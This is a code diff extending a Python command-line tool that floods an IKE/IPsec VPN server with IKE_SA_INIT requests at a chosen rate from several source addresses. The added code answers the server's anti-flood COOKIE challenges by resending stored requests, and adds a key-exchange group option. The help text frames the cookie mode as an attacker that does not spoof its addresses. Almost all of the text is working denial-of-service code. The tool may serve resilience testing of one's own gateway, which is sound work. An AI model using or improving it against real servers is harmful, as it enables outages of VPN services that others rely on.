@@ -81,8 +81,15 @@ def sa_payload_body(group: int = CURVE25519) -> bytes:
     return header + body
 
 
-def ike_sa_init(spi: bytes, public_value: bytes, nonce: bytes, group: int = CURVE25519) -> bytes:
-    """An IKE_SA_INIT request: header, SA, KE and Nonce payloads."""
+def ike_sa_init(
+    spi: bytes,
+    public_value: bytes,
+    nonce: bytes,
+    group: int = CURVE25519,
+    cookie: bytes = b"",
+) -> bytes:
+    """An IKE_SA_INIT request: header, SA, KE and Nonce payloads; with ``cookie``, the
+    COOKIE notify the server asked for comes first (RFC 7296 2.6)."""
     if len(spi) != 8 or not any(spi):
         raise ValueError("the initiator SPI is 8 bytes and not zero")
     if not 16 <= len(nonce) <= 256:
@@ -92,13 +99,27 @@ def ike_sa_init(spi: bytes, public_value: bytes, nonce: bytes, group: int = CURV
         + _payload(NONCE, struct.pack("!HH", group, 0) + public_value)
         + _payload(NO_NEXT, nonce)
     )
+    first = SA
+    if cookie:  # protocol 0, no SPI, the notify type, the server's data
+        payloads = _payload(SA, struct.pack("!BBH", 0, 0, COOKIE) + cookie) + payloads
+        first = NOTIFY
     length = IKE_HEADER_LEN + len(payloads)
-    header = HEADER.pack(spi, bytes(8), SA, VERSION_2, IKE_SA_INIT, FLAG_INITIATOR, 0, length)
+    header = HEADER.pack(spi, bytes(8), first, VERSION_2, IKE_SA_INIT, FLAG_INITIATOR, 0, length)
     return header + payloads
 
 
 def random_request(group: int = CURVE25519) -> bytes:
     return ike_sa_init(os.urandom(8), os.urandom(32), os.urandom(32), group)
+
+
+def cookie_of(answer: bytes) -> tuple[bytes, bytes] | None:
+    """(initiator SPI, cookie data) of an answer that asks for a cookie, else None."""
+    if classify(answer) != "cookie":
+        return None
+    for kind, body in payloads(answer):
+        if kind == NOTIFY and struct.unpack_from("!H", body, 2)[0] == COOKIE:
+            return answer[:8], body[4:]
+    return None
 
 
 def payloads(message: bytes) -> Iterator[tuple[int, bytes]]:
@@ -139,8 +160,27 @@ def classify(answer: bytes) -> str:
     return "ike_sa_init" if any(kind == SA for kind, _ in found) else "other"
 
 
+MAX_PENDING = 100_000  # requests kept to answer cookies for
+
+
+def _with_cookie(request: bytes, cookie: bytes, group: int) -> bytes:
+    """``request`` again, with the server's cookie (b"" if the request is unknown)."""
+    if not request:
+        return b""
+    found = dict(payloads(request))
+    public_value = found[KE][4:]
+    return ike_sa_init(request[:8], public_value, found[NONCE], group, cookie)
+
+
 def flood(
-    server: str, sources: Sequence[str], rate: float, duration: float, port: int = IKE_PORT
+    server: str,
+    sources: Sequence[str],
+    rate: float,
+    duration: float,
+    *,
+    port: int = IKE_PORT,
+    group: int = CURVE25519,
+    answer_cookies: bool = False,
 ) -> dict[str, object]:
     """Send IKE_SA_INITs to ``server`` from ``sources`` in turn; count the answers."""
     sockets = []
@@ -152,6 +192,7 @@ def flood(
         selector.register(sock, selectors.EVENT_READ, index)
         sockets.append(sock)
     answers: Counter[str] = Counter()
+    sent_requests: dict[bytes, bytes] = {}  # initiator SPI -> request, to answer a cookie
     sent = errors = 0
     start = time.monotonic()
     end = start + duration
@@ -159,7 +200,12 @@ def flood(
         due = int((now - start) * rate) + 1
         while sent < due:
             try:
-                sockets[sent % len(sockets)].sendto(random_request(), (server, port))
+                request = random_request(group)
+                if answer_cookies:
+                    sent_requests[request[:8]] = request
+                    while len(sent_requests) > MAX_PENDING:
+                        sent_requests.pop(next(iter(sent_requests)))
+                sockets[sent % len(sockets)].sendto(request, (server, port))
             except OSError:
                 errors += 1
             sent += 1
@@ -172,6 +218,11 @@ def flood(
                 except BlockingIOError:
                     break
                 answers[classify(data)] += 1
+                if answer_cookies and (asked := cookie_of(data)):
+                    retry = _with_cookie(sent_requests.pop(asked[0], b""), asked[1], group)
+                    if retry:
+                        sock.sendto(retry, (server, port))
+                        answers["cookies_answered"] += 1
     elapsed = time.monotonic() - start
     for sock in sockets:
         sock.close()
@@ -192,8 +243,29 @@ def main(argv: Sequence[str] | None = None) -> None:
     parser.add_argument("--rate", type=float, default=500.0, help="packets per second")
     parser.add_argument("--duration", type=float, default=10.0, help="seconds")
     parser.add_argument("--port", type=int, default=IKE_PORT)
+    parser.add_argument(
+        "--group",
+        type=int,
+        default=CURVE25519,
+        help="key exchange group offered (IANA number); one the server refuses (1, MODP-768) "
+        "makes each request cheap for both sides: charon logs it and answers NO_PROPOSAL_CHOSEN",
+    )
+    parser.add_argument(
+        "--answer-cookies",
+        action="store_true",
+        help="resend each request with the cookie the server asks for (an attacker that does "
+        "not spoof its addresses)",
+    )
     args = parser.parse_args(argv)
-    result = flood(args.server, args.source, args.rate, args.duration, args.port)
+    result = flood(
+        args.server,
+        args.source,
+        args.rate,
+        args.duration,
+        port=args.port,
+        group=args.group,
+        answer_cookies=args.answer_cookies,
+    )
     print(json.dumps(result))
 
 
